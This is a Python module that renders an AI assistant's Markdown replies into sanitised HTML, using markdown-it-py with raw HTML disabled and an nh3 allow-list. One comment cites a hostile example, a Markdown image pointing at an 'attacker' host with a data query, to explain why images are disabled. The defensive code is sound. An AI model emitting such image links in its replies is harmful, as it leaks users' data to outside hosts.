"""Assistant text as Markdown, rendered safely.

Two well-kept libraries, no regexes: markdown-it-py parses (CommonMark, raw HTML off, so
``<script>`` stays text), then nh3 sanitises what comes out (an allow-list, so nothing
else can slip through a parser bug). The browser renders live text with the JS
``markdown-it`` and ``DOMPurify`` configured the same way (static/chat/markdown.js):
keep the two in step, tests/browser/test_markdown.py compares them.

A final answer's HTML is rendered once, when it ends, and stored with MARKDOWN_VERSION
(as Zulip stores ``rendered_content``): pages show it as is while the version is current.
"""

from __future__ import annotations

import re
from functools import cache

import nh3
from markdown_it import MarkdownIt

ALLOWED_TAGS = {
    *("p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "a"),
    *("ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6"),
}
ALLOWED_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "code": {"class"}}
URL_SCHEMES = {"http", "https", "mailto"}
LINK_REL = "noopener noreferrer nofollow"
#: Bump whenever rendering or sanitising changes: stored HTML of an older version is
#: rendered again from the text when read.
MARKDOWN_VERSION = 1
# Only a fence's language class survives: nothing else may borrow the page's styles.
CODE_CLASS = re.compile(r"language-[\w+#.-]+")


def _keep_attribute(tag: str, attribute: str, value: str) -> str | None:
    if tag == "code" and attribute == "class":
        return value if CODE_CLASS.fullmatch(value) else None
    return value


@cache
def _parser() -> MarkdownIt:
    # The commonmark preset turns raw HTML on: switch it off; linkify stays off.
    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    # No images: a reply could embed ![](https://attacker/?data=…) and leak by loading it.
    # Disabled, the syntax renders as a plain link the reader may choose to follow.
    md.disable("image")
    return md


@cache
def _cleaner() -> nh3.Cleaner:
    return nh3.Cleaner(
        tags=ALLOWED_TAGS,
        attributes=ALLOWED_ATTRIBUTES,
        attribute_filter=_keep_attribute,
        url_schemes=URL_SCHEMES,
        link_rel=LINK_REL,
        set_tag_attribute_values={"a": {"target": "_blank"}},
        strip_comments=True,
    )


def render_markdown(text: str) -> str:
    """Markdown source to sanitised HTML, the same as the browser's ``renderMarkdown``."""
    return _cleaner().clean(_parser().render(text or ""))
